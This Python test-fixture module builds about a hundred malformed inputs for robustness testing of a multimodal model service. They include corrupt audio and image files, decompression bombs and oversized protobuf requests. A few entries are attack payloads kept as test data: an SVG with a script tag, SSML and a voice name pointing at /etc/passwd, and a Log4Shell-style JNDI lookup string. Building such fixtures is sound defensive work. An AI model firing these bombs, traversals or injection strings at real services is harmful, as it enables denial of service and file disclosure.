"""A hundred hostile media and messages: broken, of the wrong type, or bombs."""

from __future__ import annotations

import io
import random
import struct
import wave
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

import numpy as np
import soundfile
from PIL import Image

from omnigap.v1 import model_service_pb2 as pb
from tests.chaos.behaviours import CONTROL
from tests.chaos.payload import RATE


@dataclass(frozen=True)
class Hostile:
    """One message. `kind`: "audio", "image", "text" or "message"; `data` of a message are the bytes of a request."""

    name: str
    kind: str
    data: bytes
    mime: str = ""
    rate: int = 0
    channels: int = 0

    def request(self, output: int) -> bytes:
        if self.kind == "message":
            return self.data
        part = pb.InputPart()
        if self.kind == "audio":
            part.audio.MergeFrom(
                pb.Audio(data=self.data, mime_type=self.mime, sample_rate_hz=self.rate, channels=self.channels)
            )
        elif self.kind == "image":
            part.image.MergeFrom(pb.Image(data=self.data, mime_type=self.mime))
        else:
            part.text = self.data.decode("utf-8", "replace")
        return bytes(pb.GenerateRequest(parts=[part], output=output, language="en").SerializeToString())  # type: ignore[arg-type]


def wav_of(samples: np.ndarray, rate: int = RATE, channels: int = 1) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as file:
        file.setnchannels(channels)
        file.setsampwidth(2)
        file.setframerate(rate)
        file.writeframes(samples.astype("<i2").tobytes())
    return buffer.getvalue()


def sound_file(samples: np.ndarray, rate: int, form: str, subtype: str | None = None) -> bytes:
    buffer = io.BytesIO()
    soundfile.write(buffer, samples, rate, format=form, subtype=subtype)
    return buffer.getvalue()


def silent_flac(seconds: int, rate: int, channels: int) -> bytes:
    """Silence, written second by second: in memory it is thousands of times as large."""
    buffer, second = io.BytesIO(), np.zeros((rate, channels), np.int16)
    with soundfile.SoundFile(buffer, "w", rate, channels, format="FLAC") as file:
        for _ in range(seconds):
            file.write(second)
    return buffer.getvalue()


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, rows: bytes = b"", *more: bytes, depth: int = 8, colour: int = 0) -> bytes:
    """A PNG by hand, so that its header can say anything."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = png_chunk(b"IDAT", zlib.compress(rows, 9))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + b"".join(more) + body + png_chunk(b"IEND", b"")


def image_bytes(form: str, size: tuple[int, int] = (64, 32), **how: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, form, **how)
    return buffer.getvalue()


def sounds() -> Iterator[Hostile]:
    """Audio that is broken, wrong, or a bomb."""
    good = wav_of(np.zeros(RATE))
    nan = np.full(RATE, np.nan, np.float32)
    yield Hostile("empty wav", "audio", b"", "audio/wav")
    yield Hostile("header only", "audio", good[:44], "audio/wav")
    yield Hostile("half a header", "audio", good[:20], "audio/wav")
    yield Hostile("data size 4 GB", "audio", good[:40] + b"\xff\xff\xff\xff" + good[44:], "audio/wav")
    yield Hostile("rate 0", "audio", good[:24] + bytes(4) + good[28:], "audio/wav")
    yield Hostile("rate 4294967295", "audio", good[:24] + b"\xff" * 4 + good[28:], "audio/wav")
    yield Hostile("channels 0", "audio", good[:22] + bytes(2) + good[24:], "audio/wav")
    yield Hostile("channels 65535", "audio", good[:22] + b"\xff\xff" + good[24:], "audio/wav")
    yield Hostile("format 65535", "audio", good[:20] + b"\xff\xff" + good[22:], "audio/wav")
    yield Hostile("bits 0", "audio", good[:34] + bytes(2) + good[36:], "audio/wav")
    yield Hostile("NaN", "audio", sound_file(nan, RATE, "WAV", "FLOAT"), "audio/wav")
    yield Hostile("infinite", "audio", sound_file(nan * 0 + np.inf, RATE, "WAV", "FLOAT"), "audio/wav")
    yield Hostile("1e30", "audio", sound_file(np.full(RATE, 1e30, np.float32), RATE, "WAV", "FLOAT"), "audio/wav")
    yield Hostile("64-bit", "audio", sound_file(np.zeros(RATE), RATE, "WAV", "DOUBLE"), "audio/wav")
    yield Hostile("GSM in WAV", "audio", sound_file(np.zeros(8_000), 8_000, "WAV", "GSM610"), "audio/wav")
    yield Hostile("ADPCM in WAV", "audio", sound_file(np.zeros(8_000), 8_000, "WAV", "MS_ADPCM"), "audio/wav")
    yield Hostile(
        "FLAC bomb of 8 channels",
        "audio",
        sound_file(np.zeros((6_000_000, 8), np.int16), 192_000, "FLAC"),
        "audio/flac",
    )
    yield Hostile(
        "FLAC of an hour", "audio", sound_file(np.zeros(8_000 * 3_600, np.int16), 8_000, "FLAC"), "audio/flac"
    )
    flac = sound_file(np.zeros(RATE, np.int16), RATE, "FLAC")
    yield Hostile("half a FLAC", "audio", flac[: len(flac) // 2], "audio/flac")
    yield Hostile("FLAC of endless frames", "audio", flac[:18] + b"\x0f\xff\xff\xff\xff\xff" + flac[24:], "audio/flac")
    yield Hostile("Ogg as WAV", "audio", sound_file(np.zeros(RATE), RATE, "OGG"), "audio/wav")
    yield Hostile("AIFF as WAV", "audio", sound_file(np.zeros(RATE), RATE, "AIFF"), "audio/wav")
    yield Hostile("PNG as WAV", "audio", image_bytes("PNG"), "audio/wav")
    yield Hostile("unknown type", "audio", good, "audio/x-chaos")
    yield Hostile("type with control characters", "audio", good, f"audio/{CONTROL}")
    yield Hostile("megabyte of a type", "audio", good, "audio/" + "x" * 1_000_000)
    yield Hostile("PCM without rate", "audio", bytes(3_200), "audio/pcm")
    yield Hostile("PCM with half a sample", "audio", bytes(3_201), "audio/pcm", RATE, 1)
    yield Hostile("PCM at 4294967295 Hz", "audio", bytes(3_200), "audio/pcm", 2**32 - 1, 1)
    yield Hostile("PCM with 4294967295 channels", "audio", bytes(3_200), "audio/pcm", RATE, 2**32 - 1)
    yield Hostile("PCM at 1 Hz", "audio", bytes(32_000), "audio/pcm", 1, 1)
    yield Hostile("PCM of one sample", "audio", bytes(2), "audio/pcm", RATE, 1)
    yield Hostile(
        "full scale noise", "audio", wav_of(np.random.default_rng(1).integers(-32768, 32767, RATE)), "audio/wav"
    )
    yield Hostile("five minutes of silence", "audio", wav_of(np.zeros(RATE * 300)), "audio/wav")


def images() -> Iterator[Hostile]:
    """Images that are broken, wrong, or a bomb."""
    png, jpeg = image_bytes("PNG"), image_bytes("JPEG")
    yield Hostile("empty PNG", "image", b"", "image/png")
    yield Hostile("half a PNG", "image", png[: len(png) // 2], "image/png")
    yield Hostile("0 x 0", "image", png_of(0, 0), "image/png")
    yield Hostile("16,000,000 x 1", "image", png_of(16_000_000, 1, bytes(16_000_001)), "image/png")
    yield Hostile("1 x 16,000,000", "image", png_of(1, 16_000_000, bytes(32_000_000)), "image/png")
    yield Hostile("60,000 x 60,000", "image", png_of(60_000, 60_000, bytes(60_001)), "image/png")
    yield Hostile("2147483647 squared", "image", png_of(2**31 - 1, 2**31 - 1, b"\0"), "image/png")
    yield Hostile("64 Mpx of one bit", "image", png_of(8_000, 8_000, bytes(8_000 * 1_001), depth=1), "image/png")
    yield Hostile(
        "bomb in a text chunk",
        "image",
        png_of(8, 8, bytes(72), png_chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(300_000_000), 9))),
        "image/png",
    )
    yield Hostile(
        "bomb in a profile",
        "image",
        png_of(8, 8, bytes(72), png_chunk(b"iCCP", b"k\0\0" + zlib.compress(bytes(200_000_000), 9))),
        "image/png",
    )
    yield Hostile("wrong checksums", "image", png[:-20] + bytes(20), "image/png")
    yield Hostile(
        "50,000 chunks", "image", png_of(8, 8, bytes(72), *[png_chunk(b"tEXt", b"k\0v")] * 50_000), "image/png"
    )
    yield Hostile("bit depth 3", "image", png_of(8, 8, bytes(72), depth=3), "image/png")
    yield Hostile("16-bit grey", "image", png_of(8, 8, bytes(8 * 17), depth=16), "image/png")
    yield Hostile("JPEG as PNG", "image", jpeg, "image/png")
    yield Hostile("PNG as JPEG", "image", png, "image/jpeg")
    yield Hostile("half a JPEG", "image", jpeg[: len(jpeg) // 2], "image/jpeg")
    yield Hostile("JPEG of 65,535 x 65,535", "image", _jpeg_sized(jpeg, 65_535, 65_535), "image/jpeg")
    yield Hostile("JPEG of 0 lines", "image", _jpeg_sized(jpeg, 64, 0), "image/jpeg")
    yield Hostile("GIF", "image", image_bytes("GIF"), "image/gif")
    yield Hostile("TIFF as PNG", "image", image_bytes("TIFF"), "image/png")
    yield Hostile("BMP as PNG", "image", image_bytes("BMP"), "image/png")
    yield Hostile("WebP", "image", image_bytes("WEBP"), "image/webp")
    yield Hostile("WAV as PNG", "image", wav_of(np.zeros(RATE)), "image/png")
    yield Hostile(
        "SVG", "image", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml"
    )
    yield Hostile("PostScript as PNG", "image", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "image/png")
    yield Hostile("noise as PNG", "image", random.Random(1).randbytes(10_000), "image/png")
    yield Hostile("type with control characters", "image", png, f"image/{CONTROL}")


def _jpeg_sized(data: bytes, width: int, height: int) -> bytes:
    """A JPEG whose frame header names another size."""
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", height, width) + data[place + 4 :]


def texts() -> Iterator[Hostile]:
    """Texts that a voice or a terminal may choke on."""
    yield Hostile("empty text", "text", b"")
    yield Hostile("white space", "text", b" \n\t\r " * 100)
    yield Hostile("control characters", "text", CONTROL.encode())
    yield Hostile("a million letters", "text", b"a" * 1_000_000)
    yield Hostile("a million digits", "text", b"9" * 1_000_000)
    yield Hostile("a million brackets", "text", b"(" * 1_000_000)
    yield Hostile("SSML", "text", b"<speak><audio src='file:///etc/passwd'/><break time='1000000s'/></speak>")
    yield Hostile("100,000 combining marks", "text", ("e" + "\u0301" * 100_000).encode())
    yield Hostile("bidi", "text", ("\u202e\u2066" * 5_000).encode())
    yield Hostile("emoji", "text", "👩‍👩‍👧‍👦".encode() * 5_000)
    yield Hostile("no characters", "text", "\ufffe\uffff\U0010ffff".encode() * 100)
    yield Hostile("nul", "text", b"a\0b" * 1_000)
    yield Hostile("format strings", "text", b"%s%n%x{0}{__class__}${jndi:ldap://x}" * 100)


def messages() -> Iterator[Hostile]:
    """Requests as a whole."""
    text = pb.InputPart(text="What is the capital of France?")

    def whole(name: str, **fields: Any) -> Hostile:
        return Hostile(
            name, "message", bytes(pb.GenerateRequest(**{"parts": [text], "output": 1, **fields}).SerializeToString())
        )

    yield Hostile("no bytes", "message", b"")
    yield Hostile("noise", "message", random.Random(2).randbytes(5_000))
    yield Hostile("half a message", "message", whole("").data[:-3])
    yield Hostile("text that is not UTF-8", "message", b"\x1a\x04\x0a\x02\xff\xfe\x20\x01")
    yield Hostile("nested groups", "message", b"\xa3\x06" * 10_000 + b"\xa4\x06" * 10_000)
    yield whole("no parts", parts=[])
    yield whole("empty part", parts=[pb.InputPart()])
    yield whole("100,000 parts", parts=[text] * 100_000)
    yield whole("output 99", output=99)
    yield whole("output image", output=3)
    yield whole("id of a megabyte", request_id="i" * 1_000_000)
    yield whole("id with control characters", request_id=CONTROL[:-1])
    yield whole("language of a megabyte", language="e" * 1_000_000)
    yield whole("language with control characters", language=CONTROL)
    yield whole("system prompt of 20 MB", system_prompt="s" * 20_000_000)
    yield whole("expected digest of a megabyte", expected_digest="d" * 1_000_000)
    yield whole("100,000 extra settings", decoding=pb.Decoding(extra={f"k{n}": "v" for n in range(100_000)}))
    yield whole("NaN temperature", decoding=pb.Decoding(temperature=float("nan"), top_p=float("inf")))
    yield whole("max_new_tokens 4294967295", decoding=pb.Decoding(max_new_tokens=2**32 - 1, beam_size=2**32 - 1))
    yield whole("negative seed", decoding=pb.Decoding(seed=-(2**63)))
    yield whole("voice of a megabyte", output=2, voice=pb.VoiceSettings(name="v" * 1_000_000))
    yield whole("voice as a path", output=2, voice=pb.VoiceSettings(name="../../../../etc/passwd"))
    yield whole("infinite speaking rate", output=2, voice=pb.VoiceSettings(words_per_minute=float("inf")))
    yield whole("negative speaking rate", output=2, voice=pb.VoiceSettings(words_per_minute=-1.0))
    yield Hostile("70 MB", "message", whole("", system_prompt="m" * 70_000_000).data)


@cache
def hostile() -> tuple[Hostile, ...]:
    """All hostile media and messages: 100."""
    return (*sounds(), *images(), *texts(), *messages())
